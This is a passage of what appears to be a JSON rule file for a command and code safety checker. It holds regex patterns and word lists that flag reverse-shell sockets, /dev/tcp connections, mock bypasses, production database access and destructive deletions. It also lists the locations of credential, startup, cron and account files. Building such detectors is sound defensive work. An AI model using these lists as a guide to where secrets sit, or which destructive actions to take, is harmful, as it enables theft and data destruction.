-tins__|sys\\\\.modules|import_module|__import__|_getframe|f_globals|gc\\\\.\\\\w+)\\\\b|\\\\b(?:temp_original|get_original|getOriginal|wrappedMethod|(?:require|import)Act\
-ual|importOriginal|require\\\\.cache|createRequire|getBuiltinModule|binding)\\\\b|\\\\bimport\\\\s*\\\\*|\\\\bimport\\\\(\\\\s*(?!['\\"\`][/.])|\\\\bReflect\\\\.|\\\\bObject\\\\.(?:assig\
-n|definePropert\\\\w+|setPrototypeOf)\\\\(\\\\s*[\\\\w.]+\\\\s*,|\\\\bsyncBuiltin\\\\w+|\\\\bWorker\\\\b|\\\\b(?:def|class|function)\\\\s+(?:patch|mock\\\\w*|\\\\w*Mock|Patcher|Stubber|r\
-esponses|respx|sinon|jest|vi|nock|setupServer)\\\\b|\\\\.(?:patch|object|\\\\w*Mock|spyOn|stub|method|mock_aws|activate|listen|disableNetConnect)\\\\s*=[^=]|\\\\bpatch\\\\s\
-*="],"process-tests":["\\\\b(?:name|cmdline|comm|exe)\\\\b"],"names-processes":["\\\\bif\\\\b[^\\\\n]*\\\\b(?:name|cmdline|cmd|exe|comm)\\\\b"],"several-connections":["(?:(?:\
-create_engine|newInstance|getConnection|createConnection|new PDO|new DataSource)\\\\s*\\\\([\\\\s\\\\S]*){2}"],"memory-broker":["^(?![\\\\s\\\\S]*(?:conf\\\\b|config|#|\\\\bfro\
-m\\\\s+(?!celery\\\\b)|\\\\bimport\\\\s+(?!Celery\\\\b)))[\\\\s\\\\S]*\\\\bCelery\\\\([^)\\\\n]*\\\\bbroker=['\\"]memory://['\\"]"],"connects":["connection|\\\\.{3}|Object\\\\.assign"],"in\
-stalls-cron":["write_to_user|user\\\\s*="],"by-user":["\\\\busername\\\\b|\\\\buids?\\\\b|[\\"']\\\\w{0,2}[\\"']\\\\s+(?:not\\\\s+)?in\\\\b|\\\\b(?:includes|[sS]tarts_?[wW]ith|ends_?\
-[wW]ith|find|search|match)\\\\(\\\\s*[\\"'/]\\\\w{0,2}[\\"'/]"],"own-settings":["^(?![\\\\s\\\\S]*(?:HOST|database=|using=))[\\\\s\\\\S]*\\\\bsettings\\\\.configure\\\\("],"productio\
-n":["\\\\bPROD(?:UCTION)?_\\\\w*(?:UR[LI]|DSN|DB)\\\\b|://[^'\\"\\\\s]*\\\\bprod(?:uction)?[.-]"],"socket-shell":["^(?=[\\\\s\\\\S]*(?:IO::Socket|\\\\bsocket\\\\s*\\\\())[\\\\s\\\\S]*\\\\\
-bopen\\\\s*\\\\(?\\\\s*STDIN\\\\s*,\\\\s*[\\"']?[<>+]{0,2}&"],"repeats":["\\\\b(?:while|for|foreach|until|loop|redo|goto|times|each\\\\w*|upto|downto|step|cycle|map|select|red\
-uce|def|sub|func\\\\w*|fn|eval|exec\\\\w*|lambda|class|trap|require|include|load|__FILE__|argv|ARGV)\\\\b|->\\\\s*\\\\{|=>\\\\s*\\\\{|\\\\*\\\\s*\\\\d|\\\\bx\\\\s*\\\\d|\\\\bfork\\\\b(?:[\\\\s\
-\\\\S]*?\\\\bfork\\\\b){3}"],"limits":["\\\\bwhere\\\\s*\\\\("],"writes":["\\\\.write|dump|print\\\\s*[{$]|print\\\\([^)\\\\n]*\\\\bfile\\\\s*=|[\\\\w)]\\\\.(?:print|puts)\\\\b|fputs|fprintf\
-|save|copy|pipe|send|<<|to_\\\\w+\\\\(|fwrite|Writer"],"secret-names":["['\\"](?:\\\\w*_)?(?:TOKEN|KEY|SECRET|PASSW\\\\w*|PASS)(?:_\\\\w*)?['\\"]|\\\\b(?:TOKEN|SECRET|PASSWOR\
-D)\\\\|"],"encrypts":["\\\\.encrypt\\\\(|createCipher|\\\\bcrypt\\\\.|open\\\\((\\\\w+), *[\\"']w[\\"']\\\\)\\\\.write\\\\( *open\\\\(\\\\1\\\\)"],"rolled-back":["^\\\\s*(?:BEGIN(?: TRANSACT\
-ION| WORK)?|START TRANSACTION);(?:\\\\s*(?:SELECT|INSERT|UPDATE|DELETE|SAVEPOINT|EXPLAIN|WITH)\\\\s[^;\\\\\\\\]*;)*\\\\s*ROLLBACK;?\\\\s*$","i"],"keeps-real":["pause|pass_?\
-thr|add_real|real_http|resume|session\\\\s*=|skip_names|modules_to_|use_known|use_cache|deactivate"],"other-imports":["^\\\\s*(?:from|import) (?!boto|moto|(?:os|sys\
-|json|re|pytest|datetime)\\\\b)|^\\\\s*import [^\\\\n]*,\\\\s*(?!boto|moto|(?:os|sys|json|re)\\\\b)","m"],"several-clients":["(?:boto3\\\\.(?:client|resource)\\\\([\\\\s\\\\S]*){\
-2}"],"other-requests":["\\\\b(?:httpx|aiohttp|urllib\\\\d?|http\\\\.client|pycurl|socket)\\\\b"],"other-files":["^(?:import|from) (?:posix|nt|ctypes|_)","m"],"besides-h\
-ttpx":["\\\\b(?:requests|aiohttp|urllib\\\\d?|http\\\\.client|pycurl|socket)\\\\b|assert_all_mocked|\\\\busing\\\\b|rollback"],"besides-fetch":["passthrough|bypass|['\\"](?:\
-node:)?(?:net|tls|dgram|http2)['\\"]|socket"],"besides-http":["enableNetConnect|restore|allowUnmocked|passthrough|\\\\bback\\\\b|recorder|NOCK_OFF|adapter|undici|sup\
-eragent|http2|['\\"](?:node:)?net['\\"]|globalThis|socket|\\\\bky\\\\b|^(?![\\\\s\\\\S]*\\\\bfetch\\\\b[^\\\\n;]{0,20}['\\"]node-fetch['\\"])[\\\\s\\\\S]*\\\\bfetch\\\\s*\\\\("]},"shared":\
-{"functions":{"chr":"characters $all","fromCharCode":"characters $all","fromCodePoint":"characters $all","bytes":"characters $0","bytearray":"characters $0","or\
-d":"code-point $0","int":"integer $0 $1","str":"value $0","String":"value $0","strval":"value $0","iter":"value $0","scalar":"value $0","expanduser":"value $0",\
-"abspath":"value $0","realpath":"value $0","normpath":"value $0","fspath":"value $0","compile":"value $0","enter_context":"value $0","closing":"value $0","list"\
-:"listed $0","sorted":"listed $0","tuple":"listed $0","set":"listed $0","frozenset":"listed $0","Set":"listed $0","Array.from":"listed $0","from":"listed $0","b\
-64decode":"fold base64 $0","urlsafe_b64decode":"fold base64 $0","decodebytes":"fold base64 $0","a2b_base64":"fold base64 $0","base64_decode":"fold base64 $0","d\
-ecode_base64":"fold base64 $0","decode64":"fold base64 $0","strict_decode64":"fold base64 $0","urlsafe_decode64":"fold base64 $0","atob":"fold base64 $0","b32de\
-code":"fold base32 $0","b85decode":"fold unread $0","a85decode":"fold unread $0","str_rot13":"fold unread $0","decompress":"fold unread $0","gzinflate":"fold un\
-read $0","gzuncompress":"fold unread $0","gzdecode":"fold unread $0","inflateSync":"fold unread $0","inflateRawSync":"fold unread $0","gunzipSync":"fold unread \
-$0","b16decode":"fold hex $0","unhexlify":"fold hex $0","a2b_hex":"fold hex $0","fromhex":"fold hex $0","hex2bin":"fold hex $0","strrev":"fold reverse $0","reve\
-rsed":"reverse $0","reverse":"reverse $0","strtolower":"fold lower $0","lc":"fold lower $0","strtoupper":"fold upper $0","uc":"fold upper $0","trim":"fold trim \
-$0","unescape":"fold url $0","unquote":"fold url $0","urldecode":"fold url $0","rawurldecode":"fold url $0","decodeURIComponent":"fold url $0","decodeURI":"fold\
- url $0","expandvars":"fold home $0","join":"join-texts $0 $1..","implode":"join-texts $0 $1..","sprintf":"format $0 $1..","map":"map $0 $1","array_map":"map $0\
- $1"},"methods":{"join":"join-texts $self $0","split":"if-text split $self $0","replace":"if-text if-args:2 replace $self $0 $1","replaceAll":"if-text replace $\
-self $0 $1","gsub":"if-text replace $self $0 $1","lower":"if-text fold lower $self","downcase":"if-text fold lower $self","toLowerCase":"if-text fold lower $sel\
-f","upper":"if-text fold upper $self","upcase":"if-text fold upper $self","toUpperCase":"if-text fold upper $self","strip":"if-text fold trim $self","chomp":"if\
--text fold trim $self","trim":"if-text fold trim $self","rstrip":"if-text fold trim-end $self","lstrip":"if-text fold trim-start $self","reverse":"reverse $self\
-","decode":"decode $self $0","encode":"value $self","to_s":"value $self","to_str":"value $self","to_sym":"value $self","bytes":"value $self","bind":"value $self\
-","chars":"if-text elements $self","concat":"concatenate $self $all","format":"if-text format $self $0..","clear":"if-lasting run sql delete-all rows","clearAsy\
-nc":"if-lasting run sql delete-all rows","drop":"if-lasting run sql delete-all rows","dropAsync":"if-lasting run sql delete-all rows","erase":"if-lasting run sq\
-l delete-all rows","remove":"if-empty if-lasting run sql delete-all rows","removeAsync":"if-empty if-lasting run sql delete-all rows","openDB":"if-made:store va\
-lue $self","open_db":"if-made:store value $self","sublevel":"if-made:store value $self","begin":"if-made:store value $self","pack":"pack $0 $self","unpack1":"if\
--text fold base64 $self","charCodeAt":"code-point $self $0","slice":"slice $self $0 $1","joinpath":"join $self $0..","hexdigest":"value","call":"invoke $self $0\
-..","apply":"invoke $self $1","send":"message $self $0 $1..","public_send":"message $self $0 $1..","__send__":"message $self $0 $1.."},"deeds":{"drop_database":\
-"if-kept run sql drop-database $owner","dropdatabase":"if-kept run sql drop-database $owner","push":"if-git run git push $all","checkout":"if-git run git checko\
-ut $all","update_ref":"if-git run git update-ref $all","filter_branch":"if-git run git filter-branch $all","branch":"if-git run git branch $all","stash":"if-git\
- run git stash $all","raw":"if-git program git $all","reset":"if-says:^- run git reset $all","clean":"if-says:^- run git clean $all","drop_all":"if-kept run sql\
- drop-schema $owner","drop_table":"if-kept run sql drop-table $0","droptable":"if-kept run sql drop-table $0","drop_index":"value","drop_indexes":"value","dropi\
-ndex":"value","dropindexes":"value","flushall":"if-stored run sql flush FLUSHALL","flush_all":"if-stored run sql flush FLUSHALL | if-name:broker run sql flush F\
-LUSHALL","flushdb":"if-stored run sql flush FLUSHDB","delete_all":"if-name if-kept run sql delete-all $owner","destroy_all":"if-name if-kept run sql delete-all \
-$owner","deleteall":"if-name if-kept run sql delete-all $owner","deletemany":"if-kept if-empty run sql delete-all $owner","delete_many":"if-kept if-empty run sq\
-l delete-all $owner","_raw_delete":"if-kept run sql delete-all $owner","drop_collection":"if-kept if-none run sql drop-collection $owner | if-kept run sql drop-\
-collection $0","dropcollection":"if-kept if-none run sql drop-collection $owner | if-kept run sql drop-collection $0","query":"made rows","collection":"made row\
-s","all":"if-none made rows","filter":"if-none made rows","exclude":"if-none made rows","begin_delete":"if-kept run cloud-sdk delete","begindelete":"if-kept run\
- cloud-sdk delete","recursivedelete":"if-kept run cloud-sdk delete","obliterate":"if-kept run cloud-sdk delete","expunge":"if-none if-kept run cloud-sdk delete"\
-,"purge":"if-name:control if-no-sign:memory-broker run celery purge","discard_all":"if-name:control if-no-sign:memory-broker run celery purge","drop":"if-made:r\
-ows if-none run sql drop-collection rows","delete":"if-made:rows if-none run sql delete-all rows | if-none made pending-delete","forcedelete":"if-made:rows if-n\
-one run sql delete-all rows"}},"words":{"skipped":["if","elif","else","elsif","unless","while","until","do","try","except","catch","finally","begin","rescue","e\
-nsure","then","end","and","or","in","case","when","switch","default","break","continue","pass","next","last","redo","raise","throw","export","public","private",\
-"protected","static","final","abstract","async","use","using","package"],"ending_signs":[";","{","}",")","]",",",":","=>"],"assigning":["=",":=","+=",".=","||="\
-,"??=","&&="],"constructors":["__init__","constructor","initialize","__construct"],"class_keywords":["class","module","interface","namespace"],"declaring":["con\
-st","let","var","my","our","local","await","static","async"],"standard":["assert","async_hooks","buffer","child_process","cluster","console","crypto","dgram","d\
-ns","events","fs","http","http2","https","module","net","os","path","perf_hooks","process","punycode","querystring","readline","stream","string_decoder","timers\
-","tls","tty","url","util","v8","vm","worker_threads","zlib","bun","zx","abc","argparse","array","ast","asyncio","base64","binascii","bz2","calendar","cgi","cma\
-th","codecs","collections","concurrent","configparser","contextlib","copy","csv","ctypes","dataclasses","datetime","decimal","difflib","email","enum","errno","f\
-ileinput","fnmatch","fractions","functools","gc","getpass","glob","gzip","hashlib","heapq","hmac","html","importlib","inspect","io","ipaddress","itertools","jso\
-n","keyword","locale","logging","lzma","math","mimetypes","multiprocessing","operator","pathlib","pickle","pkgutil","platform","plistlib","pprint","queue","rand\
-om","re","sched","secrets","select","shelve","shlex","shutil","signal","smtplib","socket","socketserver","sqlite3","ssl","stat","statistics","string","struct","\
-subprocess","sys","sysconfig","tarfile","tempfile","textwrap","threading","time","timeit","traceback","types","typing","unittest","urllib","uuid","venv","warnin\
-gs","weakref","webbrowser","xml","xmlrpc","zipfile","zoneinfo","dotenv","jsonwebtoken","jose","jwt","bcrypt","bcryptjs","passlib","cryptography","pydantic","zod\
-","yaml","lodash","pandas","numpy","express","fastapi","flask","starlette","winston","pino","loguru","structlog","click","typer","jsdom","happy-dom","linkedom",\
-"cheerio","nock","msw","supertest","sinon","jest","vitest","pytest","responses","requests_mock","respx","pytest_httpx","vcr","betamax","moto"],"prefixing":["new\
-","await","not","typeof","void","defined","yield","async","return","throw","clone"],"following":["if","unless","while","until","do","and","or","end","then","res\
-cue","ensure","in","else","elsif","for","foreach","x","eq","ne","cmp","lt","gt","le","ge"],"opening":["do","def","class","module","begin","case"],"leading_openi\
-ng":["if","unless","while","until","for"],"spawning":["Start","spawn","spawnl","spawnlp","spawnv","spawnvp","spawnve","fork","vfork","Popen","posix_spawn","pcnt\
-l_fork","proc_open","popen","execFile","Worker","Process","create_subprocess_exec","create_subprocess_shell"],"shells":["system","exec","shell_exec","popen","ex\
-ecSync","os","execute","shell","cmd"],"waiting":["break","return","exit","P_WAIT","wait","wait2","waitpid","waitpid2","wait4","join","communicate","sleep","usle\
-ep","await","throw","raise","die","last","readline","input","gets","recv","accept","get","poll","Queue","Sleep","Wait","Accept","Recv","receive","Receive","sele\
-ct","After","Tick","delay","Delay","sleepAsync"],"sql_kinds":["DATABASE","SCHEMA","TABLE","VIEW","INDEX","USER","ROLE","FUNCTION","PROCEDURE","TRIGGER","SEQUENC\
-E","TYPE","EXTENSION","KEYSPACE","TABLESPACE","COLUMN","CONSTRAINT","POLICY","OWNED","COLLECTION","STREAM","BUCKET","MEASUREMENT","SERIES","PARTITION"],"sql_fil\
-lers":["IF","EXISTS","NOT","ONLY","CONCURRENTLY","CASCADE","LOW_PRIORITY","QUICK","IGNORE"],"sql_leads":["AS","BEGIN","THEN","ANALYZE","ANALYSE","EXPLAIN","DO",\
-"DETACH","LOOP","ELSE"],"sql_reads":["LOAD_FILE","PG_READ_FILE","PG_READ_BINARY_FILE","LO_IMPORT","READFILE","READ_TEXT","INFILE"],"sql_writes":["OUTFILE","DUMP\
-FILE","WRITEFILE","LO_EXPORT"],"sql_code":["EXECUTE","EXEC","PREPARE","DO"],"before_value":["return","typeof","case","in","of","and","or","not","if","unless","s\
-plit","grep","when"],"behind_calls":["while","until","if","unless","or","and","for","foreach"],"data_signs":["driver","database","key-store","in-memory","imitat\
-ion","data-library"],"endpoints":["endpoint_url","endpoint","base_url","baseURL"],"sending_verbs":["POST","PUT","PATCH","DELETE"],"element_methods":["map","forE\
-ach","flatMap","filter","each","each_with_index","collect","select","find","to_h","filter_map","reverse_each"],"folding_methods":["reduce","inject","each_with_o\
-bject"],"selecting_methods":["filter","select","reject","sort","toSorted","find_all","grep"],"selecting_functions":["filter","takewhile","dropwhile","tqdm"],"re\
-mote":["indices","indexes","tables","databases","collections","schemas","keyspaces","queues","topics","streams","buckets","exchanges","repos","repositories","pr\
-ojects","resourcegroups","volumes","instances","virtualmachines","droplets","servers","clusters","namespaces","organizations","customers","subscriptions","deplo\
-yments","dnszones","zones","tenants","vaults","storageaccounts","webapps","datasets","loadbalancers","backups","hostedzones","shards","replicas","partitions"],"\
-remote_members":["indices","repos","repositories","buckets","resourcegroups","virtualmachines","droplets","keyspaces","customers","dnszones","storageaccounts","\
-webapps","loadbalancers","hostedzones","deployments","namespaces","databases","volumes"],"deleting":["delete","rdelete","del","drop","destroy","purge","truncate\
-","wipe","terminate","erase","nuke","obliterate","expunge","deregister","deletion"],"loosely_deleting":["remove","clear","empty","rmtree","removetree","rmdir","\
-unlink","rm"],"passing":["label","labels","tag","tags","reaction","reactions","assignee","assignees","reviewer","reviewers","listener","listeners","handler","ha\
-ndlers","header","headers","interceptor","interceptors","cookie","cookies","cache","caches","timeout","interval","filter","filters","default","defaults","mock",\
-"mocks","queue_handler"],"deletion_fillers":["admin","schedule","key","all","if","exist","exists","async","sync","force","cascade","begin","batch","bulk","recur\
-sive","and","wait","now","by","id","command"],"imitating":["moto.mock_aws","responses.activate","respx.mock"],"mock_setters":["configure_mock","attach_mock","ca\
-llsFake","returns","resolves","rejects","mockImplementation","mockReturnValue","mockResolvedValue","mockRejectedValue"],"mock_ends":["restore","restoreAll","res\
-toreAllMocks","mockRestore","reset","resetAll","resetAllMocks","mockReset","stop","stopall","undo","callThrough","callThroughWithNew","callsArg","mockImplementa\
-tionOnce","__exit__","unmock","doUnmock","enableNetConnect","isolateModules","resetModules","resetHandlers","deactivate"],"conditional":["if","elif","else","unl\
-ess","for","foreach","while","until","do","switch","match","try","except","case","and","or","assert","&&","||","??","?","?.","||=","??=","&&="],"exiting":["retu\
-rn","throw","raise","await"],"defining":["def","class","function","func","fn","sub","lambda","yield","case","default","label","goto","defer","finally"],"showing\
-_functions":["getsource","getsourcelines","signature","getdoc","getfile","callable","isfunction","repr","isinstance","issubclass"],"function_fields":["__name__"\
-,"__doc__","__defaults__","__annotations__","__module__","__qualname__"],"suspending":["await","yield"],"continuing":["else","catch","finally","while","instance\
-of","in","of","as","from","do"],"changing":["global","nonlocal","for","as","case","del"],"setting":["=",":=","+=","??=","||="],"later":["lambda","def","function\
-","atexit","Timer","Thread","submit"],"ending":["endswith","endsWith"],"alternating":["||","!","?","??","^",":="],"prefix_signs":["+","-","!","~","*","**","..."\
-,"&","\\\\","++","--","@","$"],"block_lists":["map","grep","sort","first","any","all"],"perl_declaring":["my","our","local"],"file_programs":["rm","rmdir","mv","c\
-p","ln","chmod","chown","touch","mkdir"],"deleting_programs":["rm","truncate","shred"],"destructive_programs":["rm","rmdir","eval","truncate","mv","chmod","chow\
-n"]}},"paths":{"classes":{"root":"\`/\` itself, or everything in it.","system":"Folders of the operating system and their contents.","system-tree":"Such a folder \
-itself, or one of its main parts: /etc/ssl, /usr/lib, /var/lib.","local-system":"Parts of the system for local additions: /usr/local, /opt, package sources.","h\
-ome":"A home folder itself, or all of several.","personal":"Direct child of a home, or of a folder of personal files.","outside":"Deeper in a home, or anywhere \
-else outside the workspace.","workspace":"The workspace itself, everything in it, or a folder above it.","source":"Near the top of the workspace, and not produc\
-ed by a build.","source-folder":"Of these, a folder by whose name projects keep what people wrote; others may be what the agent made itself.","inner":"Deeper in\
- the workspace, and not produced by a build.","disposable":"Produced anew by a build, test or package manager.","temp":"Inside a folder for temporary files.","t\
-emp-root":"Such a folder itself, or everything in it.","vcs":"Store of a version control system: \`.git\`.","vcs-config":"Hooks and configuration of version contr\
-ol.","credentials":"Secrets: keys, tokens, passwords.","credentials-by-name":"\\"credentials\\" in the name of source code or a text: protected from edit tools al\
-one.","handed-over":"Secrets in \`.env\` that the shell hands to programs: \`source .env\`.","from-template":"The same, as a copy of the template beside it.","accou\
-nts":"Users and permissions: passwd, sudoers, PAM.","account-secrets":"Of these, all but the list of names that every program reads: /etc/passwd.","authorized-k\
-eys":"Keys that may log in.","startup":"Read by shells, desktops and interpreters at start-up.","schedule":"Cron, timers, services.","device":"Disks.","kernel":\
-"Switches and memory of the kernel.","socket":"Sockets that control a machine.","connection":"\`/dev/tcp/\\u2026\`: a connection to another machine.","local-connec\
-tion":"The same to this machine, or to a container beside it.","nowhere":"\`/dev/null\`.","endless":"Devices without an end: \`/dev/zero\`.","data":"Dumps, backups,\
- databases, lists of people.","logs":"Evidence kept by the system: logs, histories.","unknown":"Unknown before the command runs.","unknown-folder":"Everything i\
-n a folder whose name is unknown, and may be empty: all of the machine then."},"purposes":{"connection":{"form":"^/dev/(?:tcp|udp)/(?!(?:localhost|127\\\\.[\\\\d.]+\
-|0\\\\.0\\\\.0\\\\.0|\\\\[?::1\\\\]?|[a-z][\\\\w-]*)/)"},"local-connection":{"form":"^/dev/(?:tcp|udp)/(?:localhost|127\\\\.[\\\\d.]+|0\\\\.0\\\\.0\\\\.0|\\\\[?::1\\\\]?|[a-z][\\\\w-]*)/"}\
-,"nowhere":{"form":"^/dev/(?:null|zero|full|random|urandom)$"},"endless":{"form":"^/dev/(?:zero|full|u?random)$"},"startup":{"form":"^(~/)?\\\\.(bashrc|bash_profi\
-le|bash_login|bash_logout|bash_aliases|profile|zshrc|zshenv|zprofile)$|^(~/)?\\\\.(zlogin|zlogout|kshrc|cshrc|tcshrc|login|xprofile|xinitrc|xsession|xsessionrc|sh\
-rc)$|^(~/)?\\\\.(mkshrc|bash_env|inputrc|pam_environment)$|^~/\\\\.config/(fish/|autostart(/|$)|environment\\\\.d(/|$)|nvim/init\\\\.|plasma-workspace/env)|^~/\\\\.(vimrc\
-|emacs|pythonrc|pythonstartup|gdbinit|tmux\\\\.conf|ssh/rc|ssh/environment|ssh/config)|^~/\\\\.(oh-my-zsh/)|^~/\\\\.(local/lib/python[^/]*/site-packages/.*(\\\\.pth|sit\
-ecustomize\\\\.py|usercustomize\\\\.py))|^/etc/(profile(\\\\.d(/.*)?)?|bash\\\\.bashrc|bashrc|zsh(/.*|rc|env)|environment)$|^/etc/(ld\\\\.so\\\\.(preload|conf)(\\\\.d/.*)?|rc\
-\\\\.local|xdg/autostart/.*|skel/.*|fish/.*)$|^/etc/(update-motd\\\\.d/.*|inputrc)$|(^|/)(sitecustomize|usercustomize)\\\\.py$|/(site|dist)-packages/[^/]+\\\\.pth$","ho\
-me":true},"schedule":{"form":"^/etc/(cron[^/]*(/.*)?|anacrontab|systemd/.*|init\\\\.d(/.*)?|rc\\\\d?\\\\.d(/.*)?|inittab|init/.*)$|^/var/spool/(cron|at)|^(/usr)?/lib/\
-systemd/|^/run/systemd/|^~/\\\\.config/systemd(/|$)|^~?/library/launch(agents|daemons)(/|$)|^/library/launch|^~/\\\\.config/cron|^/usr/local/etc/rc\\\\.d/|^(/usr)?(/l\
-ib|/etc)/udev/rules\\\\.d/|^/etc/polkit-1/","home":true},"authorized-keys":{"form":"(^|/)\\\\.ssh/authorized_keys2?$|^/etc/ssh/(sshd_config|authorized_keys)"},"acco\
-unts":{"form":"^(/usr/local)?/etc/(passwd-?|master\\\\.passwd|shadow-?|gshadow-?|sudoers(\\\\.d(/.*)?)?|pam\\\\.d(/.*)?)$|^(/usr/local)?/etc/(security/.*|doas\\\\.conf|\
-login\\\\.defs|subuid|subgid|pass\\\\S*[*?]\\\\S*)$"},"account-secrets":{"form":"^(/usr/local)?/etc/(?!passwd$)(passwd-?|master\\\\.passwd|shadow-?|gshadow-?|sudoers(\\\\\
-.d(/.*)?)?)$|^(/usr/local)?/etc/(?!passwd$)(pam\\\\.d(/.*)?|security/.*|doas\\\\.conf|login\\\\.defs|subuid|subgid)$|^(/usr/local)?/etc/(?!passwd$)(pass\\\\S*[*?]\\\\S*)$\
-|^/usr/local/etc/passwd$"},"device":{"form":"^/dev/((sd|hd|vd|xvd)[a-z*?]+[\\\\d*?]*|nvme\\\\d.*|mmcblk.*|disk\\\\d?.*|rdisk.*|md\\\\d+|dm-\\\\d+|mapper/.*)$|^/dev/(loop\\\
-\\d+|nbd\\\\d+|mem|kmem|port|disk/.*|vg\\\\w*/.*)$"},"kernel":{"form":"^/(proc/(sys|sysrq-trigger|kcore|\\\\d+/mem|kmsg)|sys/|boot/)"},"socket":{"form":"(^|/)(docker|c\
-ontainerd|podman|crio)\\\\.sock$"},"vcs-config":{"form":"^(~/\\\\.gitconfig|~/\\\\.config/git/|/etc/gitconfig)"},"data":{"form":"(^|[-_./])(dumps?|backups?|customers?\
-|users|clients|payroll|salar(y|ies)|patients?)([-_./]|$)|(^|[-_./])(employees|database|production[-_]?data|private|confidential|secrets?|prod)([-_./]|$)|\\\\.(sql\
-|sql\\\\.gz|dump|sqlite3?|db|bak|mdb|rdb|pst|mbox|kdbx)$"},"logs":{"form":"^/var/(log|audit)(/|$)|(^|/)\\\\.(bash|zsh|sh|python|mysql|psql|node_repl)_history$|^/run\
-/log"}},"words":{"system_folders":["bin","boot","dev","etc","lib","lib32","lib64","libx32","opt","proc","root","run","sbin","srv","sys","usr","var","system","li\
-brary","applications","snap","nix","lost+found"],"root_folders":["boot","dev","etc","proc","root","sys","usr"],"personal_folders":["documents","desktop","pictur\
-es","downloads","music","videos","movies","photos","library",".config",".local",".mozilla"],"credentials":[".netrc","_netrc",".npmrc",".pypirc",".pgpass",".my.c\
-nf",".mylogin.cnf",".git-credentials",".htpasswd",".dockercfg",".s3cfg",".boto",".vault-token",".envrc",".terraformrc",".yarnrc.token","kubeconfig","master.key"\
-,"wallet.dat","login.keychain-db","key4.db","logins.json","shadow","gshadow","shadow-","gshadow-","environ","admin.conf","secring.gpg",".bash_history",".zsh_his\
-tory",".python_history",".psql_history",".mysql_history",".node_repl_history","tnsnames.ora",".secrets",".secret",".passwd-s3fs","rclone.conf",".credentials"],"\
-disposable":["node_modules","bower_components","jspm_packages","dist","dist-ssr","build","builds","_build","out","output","outputs","target","bin","obj","covera\
-ge","htmlcov",".nyc_output",".next",".nuxt",".output",".svelte-kit",".turbo",".cache","cache","caches",".parcel-cache",".vite",".angular",".gradle",".venv","ven\
-v","env","virtualenv",".virtualenv","__pycache__",".pytest_cache",".mypy_cache",".ruff_cache",".tox",".nox",".eggs",".hypothesis",".ipynb_checkpoints",".terrafo\
-rm",".serverless",".vercel",".netlify",".docusaurus",".eslintcache",".stylelintcache","storage/framework/views","storage/framework/cache",".coverage","coverage.\
-xml","lcov.info","builddir","storybook-static","public/build","public/packs","vendor","vendor/bundle","tmp","temp",".tmp",".temp","logs","log","generated","gen"\
-,".generated","__generated__","artifacts","artifact","reports","report","test-results","test-reports","test-output","test_output","playwright-report","allure-re\
-sults","allure-report","junit.xml","deps",".bundle","cmake-build-debug","cmake-build-release","cmakefiles","cmakecache.txt","debug","release",".stack-work","dis\
-t-newstyle",".dart_tool","deriveddata","pods",".build",".swiftpm","elm-stuff","zig-out","zig-cache","nimcache",".zig-cache","scratch",".scratch","_site",".jekyl\
-l-cache",".sass-cache","bench-results",".pnpm-store","package-lock.json","yarn.lock","pnpm-lock.yaml","poetry.lock",".ds_store","thumbs.db","nohup.out","a.out",\
-"lib-cov","typings","wheelhouse",".aws-sam","cdk.out",".elixir_ls",".lexical",".metals",".bloop",".bsp",".ccls-cache",".scannerwork",".snakemake",".cxx","bazel-\
-out","bazel-bin","bazel-testlogs",".astro",".externalnativebuild",".expo",".vuepress",".docusaurus",".vinxi",".nitro",".wxt",".yarn/cache",".rpt2_cache",".fuseb\
-ox",".dynamodb",".nx","lerna-debug.log",".phpunit.result.cache",".phpunit.cache",".direnv","mlruns","wandb","lightning_logs","runs","checkpoints/tmp","snapshots\
-","__snapshots__","__image_snapshots__","screenshots"],"project_outputs":["resources/_gen","stage","pkgroot","rootfs","appdir",".vs","xcuserdata",".libs",".fire\
-base",".apt_generated","web_modules","vcpkg_installed","develop-eggs","bin-debug","bin-release","sdist","out-tsc","opencover","paket-files","meson-logs","nbbuil\
-d","nbdist","nimblecache","msbuild_logs","htmldocs","gwt-unitcache","codecoverage","cover_db","cython_debug","ipch","lib_managed","src_managed","project/boot","\
-project/target","blib","build_isolated","devel_isolated","benchmarkdotnet.artifacts","test-report","tests_output","_yardoc","__pypackages__","__marimo__","__mac\
-osx",".yardoc",".virtual_documents",".pytype",".pyre",".pybuilder",".pub",".pdm-build",".mooncakes",".ng",".nb-gradle",".lein-plugins",".lake",".kitchen",".ioni\
-de",".htf",".godot",".import",".expo-shared",".ensime_cache",".eask",".cpcache",".cdk.staging",".buildlog",".artifacts",".ansible",".ammonite",".rts2_cache_cjs"\
-,".rts2_cache_es",".rts2_cache_umd",".symlinks","blob-report","tfplan","tfplan.binary","tfplan.out","_autosummary","latex.out","slprj",".stryker-tmp",".swc",".w\
-rangler",".sst",".open-next",".contentlayer",".lighthouseci",".jest-cache",".rollup.cache",".kotlin",".scala-build","intermediate","deriveddatacache","library/b\
-ee","library/scriptassemblies","library/packagecache","library/artifacts","library/shadercache","flutter/ephemeral"],"source_folders":["src","source","sources",\
-"lib","libs","app","apps","test","tests","spec","specs","__tests__","e2e","integration","doc","docs","documentation","packages","modules","module","components",\
-"pages","routes","server","client","clients","api","backend","frontend","web","www","site","core","internal","cmd","pkg","pkgs","script","scripts","config","con\
-figs","configuration","settings","public","static","assets","images","img","media","data","dataset","datasets","db","database","databases","migrations","models"\
-,"model","views","controllers","services","service","utils","util","helpers","common","shared","include","bin","tool","tools","examples","samples","templates","\
-styles","css","resources","i18n","locale","locales","fixtures","plugins","plugin","extensions","themes","infra","infrastructure","terraform","deploy","deploymen\
-t","k8s","kubernetes","charts","helm","ansible","docker","ci",".github",".gitlab",".circleci",".vscode",".idea",".husky","notebooks","crates","contracts","proto\
-","protos","schema","schemas","android","ios","macos","windows","linux","functions","lambdas","middleware","hooks","stores","types","interfaces","main","java","\
-kotlin","resources","benches","benchmarks","bench","vendor","third_party","native","engine","kernel","drivers","firmware","game","content","posts","blog","artic\
-les","book","wiki"],"source_endings":["ts","tsx","js","jsx","mjs","cjs","mts","cts","py","pyi","go","rs","java","kt","kts","rb","php","cs","c","cc","cpp","h","h\
-pp","swift","scala","ex","exs","erl","clj","lua","dart","vue","svelte","css","scss","htm","html","md","mdx","rst","adoc","snap","sql","sh","bats","proto","graph\
-ql","tf","feature","png","svg"],"file_endings":["ts","tsx","js","jsx","mjs","mjsx","cjs","cjsx","mts","cts","json","jsonc","md","mdx","py","rb","go","rs","c","h\
-","cc","cpp","hpp","java","kt","kts","swift","php","sh","yml","yaml","toml","lock","txt","css","scss","htm","html","vue","svelte","sql","xml","ini","cfg","conf"\
